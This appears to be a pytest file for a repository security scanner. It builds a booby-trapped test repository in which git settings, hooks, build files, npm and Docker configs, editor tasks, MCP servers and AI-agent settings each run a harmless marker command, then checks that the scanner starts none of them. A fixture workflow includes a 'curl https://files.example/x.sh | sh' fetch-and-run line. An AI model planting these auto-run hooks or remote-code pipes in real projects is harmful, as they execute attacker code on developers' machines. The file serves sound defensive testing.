"""A look at what runs in a tree runs none of it: the interpreter reports every process and socket.

Everything waits to be started: programs that git's configuration names, hooks, filters, Makefiles that run while
they are loaded, modules that do something when they are imported, servers and tasks of editors and agents.
"""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from tests.hostile.test_processes_and_sockets import program, watched

from simulators.repository import BAD, LOCK, Repo

ZIZMOR = Path(sys.executable).with_name("zizmor")
FOLDERS = ("", "bin", "node_modules/.bin", ".venv/bin")
PROGRAMS = (
    "git",
    "zizmor",
    "make",
    "just",
    "node",
    "npm",
    "npx",
    "uv",
    "uvx",
    "docker",
    "sh",
    "bash",
    "env",
    "python3",
)
_GIT_ENVIRONMENT = {"PATH", "HOME", "LC_ALL", "GIT_DIR", "GIT_OBJECT_DIRECTORY"}

WORKFLOW = """
on: pull_request_target
jobs:
  build:
    runs-on: self-hosted
    env:
      TOKEN: ${{ secrets.TOKEN }}
    steps:
      - uses: actions/checkout@v4
      - uses: ./.github/actions/own
      - run: |
          make all && just all && npx nothing && nox && tox && npm run build && ./build.sh && python tool.py
          echo $(TOUCH) `TOUCH`
          curl https://files.example/x.sh | sh
      - run: docker build . && docker compose up && pre-commit run
"""


def files(touch: str, marker: Path) -> dict[str, str]:
    """Every kind of file that is looked at, each with something that leaves a mark where it is run."""
    python = f"open({str(marker)!r}, 'a').write('python MALICE')\n"
    server = {"command": "sh", "args": ["-c", touch]}
    hook = {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": touch}]}]}}
    task = {"label": "x", "type": "shell", "command": touch, "runOptions": {"runOn": "folderOpen"}}
    return {
        ".github/workflows/build.yml": WORKFLOW.replace("TOUCH", touch),
        ".github/actions/own/action.yml": f"runs:\n  using: composite\n  steps:\n    - run: {touch}\n      shell: bash\n",
        ".github/dependabot.yml": "version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n",
        "Makefile": f"X := $(shell {touch})\ninclude more.mk\nall:\n\t{touch}\n",
        "more.mk": f"Y != {touch}\n",
        "justfile": f"x := `{touch}`\nall:\n  {touch}\n",
        "noxfile.py": f"import os\n{python}os.system({touch!r})\n",
        "tox.ini": f"[testenv]\ncommands = {touch}\n",
        "tool.py": python,
        "build.sh": f"{touch}\n",
        "setup.py": python,
        "conftest.py": python,
        "sitecustomize.py": python,
        "yaml.py": python,
        "tree_sitter.py": python,
        "seawall.py": python,
        "package.json": json.dumps({"scripts": dict.fromkeys(("build", "preinstall", "prepare"), touch)}),
        ".npmrc": f"script-shell=./sh\ngit=./git\nnode-options=--require ./x.js\ntokenHelper={touch}\n",
        "Dockerfile": f"# syntax=files.example/x\nFROM scratch\nRUN {touch}\n",
        "compose.yaml": f"services:\n  a:\n    build: .\n    command: {touch}\n",
        ".pre-commit-config.yaml": f"repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    language: system\n    entry: {touch}\n",
        ".mcp.json": json.dumps({"mcpServers": {"a": server}}),
        ".cursor/mcp.json": json.dumps({"mcpServers": {"a": server}}),
        ".claude/settings.json": json.dumps({**hook, "apiKeyHelper": touch, "statusLine": {"type": "command", "command": touch}}),
        ".claude/skills/x/SKILL.md": f"---\nname: x\ndescription: x\n---\n!`{touch}`\n",
        ".vscode/tasks.json": json.dumps({"version": "2.0.0", "tasks": [task]}),
        ".vscode/settings.json": json.dumps({"git.path": "./git", "python.defaultInterpreterPath": "./python3"}),
        ".devcontainer/devcontainer.json": json.dumps({"initializeCommand": touch, "postCreateCommand": touch}),
        ".codex/config.toml": f'notify = ["sh", "-c", "{touch}"]\n',
        ".gitattributes": "* filter=bad diff=bad merge=bad\n",
        ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c {touch}\n\tupdate = !{touch}\n',
        ".zizmor.yml": "rules: {}\n",
        LOCK: BAD,
    }  # fmt: skip


def configure(repo: Repo, touch: str) -> None:
    """What git itself would start in this tree: watcher, pager, filters, hooks, conversions, signing."""
    names = (
        "core.fsmonitor", "core.pager", "core.editor", "core.sshCommand", "core.askPass", "core.alternateRefsCommand",
        "diff.external", "diff.bad.command", "diff.bad.textconv", "filter.bad.clean", "filter.bad.smudge",
        "filter.bad.process", "merge.bad.driver", "gpg.program", "credential.helper", "alias.log", "pager.log",
        "uploadpack.packObjectsHook", "sequence.editor", "log.mailmap",
    )  # fmt: skip
    for name in names:
        repo.git("config", name, f"!{touch}" if name.startswith(("alias", "credential")) else touch)
    repo.git("config", "log.showSignature", "true")
    repo.git("config", "core.hooksPath", str(repo.path / "hooks"))
    hooks = (
        "post-checkout",
        "pre-commit",
        "post-index-change",
        "fsmonitor-watchman",
        "reference-transaction",
    )
    for folder in (repo.path / "hooks", repo.path / ".git" / "hooks"):
        for hook in hooks:
            program(folder / hook, repo.path.parent / "RAN")
    (repo.path / ".git" / "info").mkdir(exist_ok=True)
    (repo.path / ".git" / "info" / "attributes").write_text("* filter=bad diff=bad\n")


@pytest.fixture
def hostile(tmp_path: Path) -> Repo:
    """A repository whose every file waits to be run."""
    repo, marker = Repo(tmp_path / "repo"), tmp_path / "RAN"
    repo.commit(files(f"touch {marker}", marker))
    for folder in FOLDERS:
        for name in PROGRAMS:
            program(repo.path / folder / name, marker)
    configure(repo, f"touch {marker}")
    return repo


def path(hostile: Repo, tmp_path: Path) -> str:
    """PATH leads into the tree first; of the machine's own programs only git is on it."""
    git = shutil.which("git")
    assert git
    (tmp_path / "machine").mkdir()
    (tmp_path / "machine" / "git").symlink_to(git)
    return ":".join(
        [*(str(hostile.path / folder) for folder in FOLDERS), ".", "bin", "", str(tmp_path / "machine")]
    )


WORDS = (
    ("scan", ".", "--offline"),
    ("scan", ".", "--offline", "--no-history", "--format", "json"),
    ("scan", ".github/workflows/build.yml", "--offline"),
    ("reach", "."),
    ("reach", ".", "--all"),
    ("reach", ".", "--format", "json", "--offline"),
    ("reach", ".github", "--format", "html"),
    ("--offline",),
)


@pytest.mark.parametrize("words", WORDS, ids=" ".join)
def test_only_git_and_zizmor_are_started(hostile: Repo, tmp_path: Path, words: tuple[str, ...]) -> None:
    before = {file: file.read_bytes() for file in hostile.path.rglob("*") if file.is_file()}
    code, seen = watched(
        tmp_path, *words, cwd=hostile.path,
        env={"PATH": path(hostile, tmp_path), "PYTHONPATH": str(hostile.path), "GITHUB_TOKEN": "canary", "HOME": str(tmp_path)},
    )  # fmt: skip
    assert code in (0, 1)
    assert not (tmp_path / "RAN").exists(), (tmp_path / "RAN").read_text()
    # Python is parsed to a syntax tree, which the interpreter reports as `compile`; nothing of it is executed.
    assert {event for event, *_ in seen} <= {"subprocess.Popen", "compile"}
    for event, command, directory, environment in seen:
        if event == "compile":
            continue
        assert not command[0].startswith(str(hostile.path))
        assert "canary" not in environment.values()
        assert not Path(directory).is_relative_to(hostile.path)
        assert not any(str(hostile.path) in word for word in command)
        if Path(command[0]) == ZIZMOR:
            assert command[1:] == [
                "--offline", "--no-config", "--no-ignores", "--no-progress", "--quiet", "--color=never",
                "--format=json-v1", "--no-exit-codes", "--collect=all", "--", ".",
            ]  # fmt: skip
            assert environment == {"HOME": directory, "XDG_CACHE_HOME": directory, "PATH": ""}
        else:
            assert Path(command[0]).name == "git"
            assert command[1] in ("log", "cat-file", "ls-tree")
            assert environment.keys() >= _GIT_ENVIRONMENT
            assert all(name in _GIT_ENVIRONMENT or name.startswith("GIT_") for name in environment)
    after = {file: file.read_bytes() for file in hostile.path.rglob("*") if file.is_file()}
    assert after == before


@pytest.mark.skipif(not ZIZMOR.exists(), reason="zizmor is not installed")
def test_a_scan_asks_git_and_zizmor_and_reach_asks_git(hostile: Repo, tmp_path: Path) -> None:
    """So the test above speaks of processes that there are."""
    environment = {"PATH": path(hostile, tmp_path), "HOME": str(tmp_path)}
    for words, started in ((("scan", ".", "--offline"), {"git", "zizmor"}), (("reach", "."), {"git"})):
        _, seen = watched(tmp_path, *words, cwd=hostile.path, env=environment)
        assert {Path(c[0]).name for event, c, *_ in seen if event == "subprocess.Popen"} == started


@pytest.mark.parametrize(
    "words", [("make", "-n", "-f", "Makefile"), ("git", "status"), ("git", "diff", "HEAD~0")]
)
def test_the_tree_is_really_hostile(hostile: Repo, tmp_path: Path, words: tuple[str, ...]) -> None:
    """Other programs run what lies there as soon as they look."""
    found = shutil.which(words[0])
    if not found:
        pytest.skip(f"no {words[0]}")
    (hostile.path / "build.sh").write_text("other\n")
    subprocess.run(
        [found, *words[1:]], cwd=hostile.path, env={**os.environ, "HOME": str(tmp_path)},
        capture_output=True, check=False, timeout=30,
    )  # fmt: skip
    assert (tmp_path / "RAN").exists()
